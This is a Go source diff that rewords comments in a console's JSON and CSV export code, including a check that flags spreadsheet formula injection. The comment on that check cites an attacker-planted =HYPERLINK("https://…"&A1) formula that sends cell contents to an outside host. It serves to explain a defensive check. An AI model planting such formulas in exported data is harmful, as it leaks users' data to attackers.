@@ -18,8 +18,8 @@ import (
 	"github.com/exoagent/exoagent/internal/scalar"
 )
 
-// save writes the last program, or its result if the file's name says so,
-// to a new file that only its owner may read. It prints what it wrote.
+// save writes the last program, or its result if the extension of the file asks for that, to a new
+// file that only its owner may read. It prints what it wrote.
 func (c *console) save(path string) error {
 	switch {
 	case path == "":
@@ -53,8 +53,8 @@ func (c *console) save(path string) error {
 
 var errNoResult = errors.New("the last program failed, so there is no result to save or to draw")
 
-// jsonOf returns the whole result as JSON, even if a model would get it cut.
-// It escapes characters on which a terminal would act; that changes no value.
+// jsonOf returns the whole result as JSON, even if a model would get only a part. It escapes
+// characters that act on a terminal, which changes no value.
 func jsonOf(res *codemode.Result) ([]byte, string, error) {
 	if res.Err != nil {
 		return nil, "", errNoResult
@@ -82,8 +82,8 @@ func (c *console) chart() error {
 	})
 }
 
-// csvOf returns all rows of a result as CSV (RFC 4180, commas, UTF-8). A null is an empty
-// field, and a text is quoted, so the empty text is "". note says which texts were changed.
+// csvOf returns all rows of a result as CSV (RFC 4180, commas, UTF-8). A null is an empty field,
+// and every text is quoted, so an empty text is "". note lists the texts that were changed.
 func csvOf(res *codemode.Result) (data []byte, what, note string, err error) {
 	if res.Err != nil {
 		return nil, "", "", errNoResult
@@ -165,13 +165,12 @@ func csvCell(v value.Value, text func(string) string) string {
 	if v.Type() == value.TypeList || v.Type() == value.TypeRecord || v.Type() == value.TypeRows {
 		return text(string(b))
 	}
-	return strings.Trim(string(b), `"`) // a whole number that JSON's numbers don't hold is a text here
+	return strings.Trim(string(b), `"`) // without quotes: a whole number beyond JSON's exact numbers is a text here
 }
 
-// formula reports whether a spreadsheet could take a text for a formula. An
-// attacker may have written the text into the database: =HYPERLINK("https://…"&A1)
-// sends the next cell away. Some spreadsheets ignore spaces before the sign,
-// and accept it in full width. A number is no formula.
+// formula reports whether a spreadsheet could treat a text as a formula. An attacker may have
+// written =HYPERLINK("https://…"&A1) into the database, which would send a cell to them. Some
+// spreadsheets ignore spaces before the sign, and accept it in full width. A number is no formula.
 func formula(s string) bool {
 	s = strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) })
 	if _, ok := scalar.Canonical(value.TypeDecimal, s); ok || s == "" {
